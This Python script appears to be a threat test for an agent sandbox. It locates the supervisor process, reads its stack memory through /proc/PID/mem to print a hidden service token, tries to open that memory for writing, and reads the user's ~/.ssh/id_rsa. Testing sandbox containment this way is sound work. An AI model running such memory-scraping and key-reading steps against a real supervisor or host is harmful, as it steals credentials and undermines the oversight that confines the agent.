"""Threat: open the supervisor's /proc/PID/mem, read its [stack] mapping
(where its environment, hidden tokens included, lives) and print what
follows "MY_SERVICE_TOKEN=".  Also try to open it for writing (code
injection); nothing is written.

Prints "supervisor=PID", "mem-read: ...", "found: ...", "mem-write: ...",
"probe: ERRNO".
"""

import errno
import os
import sys

DONE = 42
NEEDLE = b"MY_SERVICE_TOKEN="


def report(label, fn):
    try:
        value = fn()
    except OSError as e:
        print(f"{label}: {errno.errorcode.get(e.errno, e.errno)}", flush=True)
        return None
    print(f"{label}: ok {value!r}", flush=True)
    return value


def find_supervisor():
    """The nearest ancestor whose command line names agentsh_ipy.cli; else,
    only when this process is under a seccomp filter (in the sandbox), its
    parent. Outside a sandbox it never guesses: it stops."""
    pid = os.getppid()
    for _ in range(16):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if b"agentsh_ipy.cli" in f.read():
                    return pid
            with open(f"/proc/{pid}/status") as f:
                ppid = int(next(x for x in f if x.startswith("PPid:")).split()[1])
        except (OSError, StopIteration, ValueError):
            break
        if ppid <= 1:
            break
        pid = ppid
    with open("/proc/self/status") as f:
        if "Seccomp:\t2" in f.read():
            return os.getppid()
    sys.exit("no supervisor: not running in the sandbox")


def probe():
    with open(os.path.expanduser("~/.ssh/id_rsa")) as f:
        return f.read()


def stack(pid):
    try:
        with open(f"/proc/{pid}/maps") as f:
            for line in f:
                if line.rstrip().endswith("[stack]"):
                    lo, hi = line.split()[0].split("-")
                    return int(lo, 16), int(hi, 16)
    except OSError:
        pass
    return None


def read_mem(pid):
    fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    try:
        where = stack(pid)
        if where is None:
            return "opened (no maps)"
        lo, hi = where
        data = os.pread(fd, hi - lo, lo)
        at = data.find(NEEDLE)
        if at >= 0:
            print("found:", data[at : at + 80].split(b"\0")[0].decode(errors="replace"))
        return f"{len(data)} bytes"
    finally:
        os.close(fd)


sup = find_supervisor()
print(f"supervisor={sup}", flush=True)
report("mem-read", lambda: read_mem(sup))
report("mem-write", lambda: os.close(os.open(f"/proc/{sup}/mem", os.O_RDWR)))
report("probe", probe)
sys.exit(DONE)
